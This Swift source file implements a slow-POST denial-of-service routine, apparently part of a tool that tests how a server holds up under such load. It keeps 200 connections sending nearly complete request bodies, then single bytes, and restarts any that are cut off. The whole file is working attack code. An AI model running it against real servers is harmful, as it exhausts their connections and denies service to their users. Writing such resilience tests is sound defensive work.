import Foundation

extension Attacker {
  /// How many unfinished bodies it holds: as many as one address may have connections, and more.
  private static let bodies = 200
  /// Sends large bodies but for their end, then a byte a second. A body that is refused or cut off is begun
  /// again.
  ///
  /// - Parameters:
  ///   - path: for which number of a connection.
  ///   - length: the announced length of each body.
  func sendUnfinishedBodies(
    _ mode: AttackMode, of length: Int, to path: @escaping @Sendable (Int) -> String
  ) {
    for worker in 0..<4 {
      work { [self] in
        let piece = [UInt8](repeating: UInt8(ascii: " "), count: 64 << 10)
        var bodies: [Int: (descriptor: Int32, sent: Int)] = [:]
        while !isOver {
          for number in stride(from: worker, to: Self.bodies, by: 4) where !isOver {
            guard let body = bodies[number] ?? begin(path(number), length) else { continue }
            bodies[number] = advance(body, to: length - piece.count, with: piece, mode)
          }
          pause()
        }
        for body in bodies.values { close(body.descriptor) }
      }
    }
  }

  private func begin(_ path: String, _ length: Int) -> (descriptor: Int32, sent: Int)? {
    guard let descriptor = HTTPConnection.connected(to: port, from: Self.address) else {
      return nil
    }
    let head = Array(
      ("POST \(path) HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        + "Content-Length: \(length)\r\n\r\n").utf8)
    _ = send(descriptor, head, head.count, Int32(MSG_NOSIGNAL))
    return (descriptor, 0)
  }

  /// Sends what the server takes at once of almost all of a body, and a byte after that.
  ///
  /// - Returns: the body; nil if the server has ended it.
  private func advance(
    _ body: (descriptor: Int32, sent: Int), to almostAll: Int, with piece: [UInt8],
    _ mode: AttackMode
  ) -> (descriptor: Int32, sent: Int)? {
    var body = body
    var answer = [UInt8](repeating: 0, count: 64)
    let received = recv(body.descriptor, &answer, answer.count, Int32(MSG_DONTWAIT))
    if received == 0 || (received < 0 && errno != EAGAIN && errno != EINTR) {
      close(body.descriptor)
      note(mode.rawValue, status: nil, seconds: 0)
      return nil
    }
    if received > 0 {
      close(body.descriptor)
      let status = HTTPConnection.answer(in: Array(answer[..<received]) + [10, 10])?.status
      note(mode.rawValue, status: status, seconds: 0)
      return nil
    }
    repeat {
      let size = body.sent < almostAll ? piece.count : 1
      let count = send(body.descriptor, piece, size, Int32(MSG_NOSIGNAL) | Int32(MSG_DONTWAIT))
      guard count > 0 else { return body }
      body.sent += count
    } while body.sent < almostAll && !isOver
    return body
  }
}
